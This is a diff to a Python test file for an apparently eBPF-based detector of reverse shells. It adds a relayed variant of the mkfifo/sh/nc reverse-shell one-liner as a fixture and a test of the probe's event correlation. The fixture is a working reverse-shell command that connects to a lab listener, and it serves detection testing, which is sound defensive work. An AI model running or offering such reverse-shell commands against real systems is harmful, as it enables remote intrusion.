@@ -13,6 +13,7 @@ service manager, tmux, a plain pipeline.
 """
 from __future__ import annotations
 
+import asyncio
 import contextlib
 import shutil
 import socket
@@ -201,19 +202,51 @@ def test_python_dup2_and_pty_spawn(probe, detector, lab):
     assert fired(detector, [net]) == {"breach.stdio_network@1"}
 
 
-def test_mkfifo_sh_nc(probe, detector, lab, tmp_path):
-    with wiring(probe, lab, FIFO, str(tmp_path / "f")) as (cg, listener):
+# the classic, and the same with relays between (cat | cat): followed up to MAX_HOPS
+FIFO_RELAYED = 'rm -f "$2"; mkfifo "$2"; cat "$2" | cat | sh -i 2>&1 | cat | nc "$0" "$1" > "$2"'
+
+
+@pytest.mark.parametrize("script,hops", [(FIFO, (1, 0)), (FIFO_RELAYED, (2, 1))],
+                         ids=["mkfifo", "mkfifo-relayed"])
+def test_mkfifo_sh_nc(probe, detector, lab, tmp_path, script, hops):
+    with wiring(probe, lab, script, str(tmp_path / "f")) as (cg, listener):
         nets = shell_network(probe, cg)
     [net] = [n for n in nets if n.fields["comm"] == "sh"]
     f = net.fields
     assert (f["stdin"], f["stdout"], f["input_network"], f["output_network"]) == \
         ("pipe", "pipe", True, True)
-    # input: cat reads the fifo nc writes (one relay); output: nc reads sh's pipe
-    assert (f["input_peer_comm"], f["input_hops"], f["output_peer_comm"], f["output_hops"]) == \
-        ("nc", 1, "nc", 0)
+    # input: cat reads the fifo nc writes (a relay); output: nc reads sh's pipe
+    assert (f["input_peer_comm"], f["output_peer_comm"]) == ("nc", "nc")
+    assert (f["input_hops"], f["output_hops"]) == hops
     assert set(f["streams"]) == {"stdin", "stdout", "stderr"}
     assert f["remote"] == f"{listener.addr}:{listener.port}"
     assert fired(detector, nets) == {"breach.stdio_network@1"}
+
+
+def test_probe_run_correlates_off_the_loop(probe, lab, tmp_path):
+    """The agent's path: ProcProbe.run emits "proc.stdio_network" by itself."""
+    got: list = []
+
+    def drive() -> str:
+        with wiring(probe, lab, FIFO, str(tmp_path / "f")) as (cg, _):
+            deadline = time.monotonic() + 10
+            while not [e for e in got if e.kind == "proc.stdio_network"
+                       and e.fields["cgroup"] == cg]:
+                assert time.monotonic() < deadline
+                time.sleep(0.05)
+            return cg
+
+    async def main() -> str:
+        task = asyncio.create_task(probe.run(got.append))
+        try:
+            return await asyncio.to_thread(drive)
+        finally:
+            task.cancel()
+
+    cg = asyncio.run(main())
+    [net] = [e for e in got if e.kind == "proc.stdio_network" and e.fields["cgroup"] == cg]
+    assert net.source == "bpf.proc.stdio" and net.fields["output_network"]
+    assert probe.correlator.dropped == 0
 
 
 def test_socat_exec(probe, detector, lab):
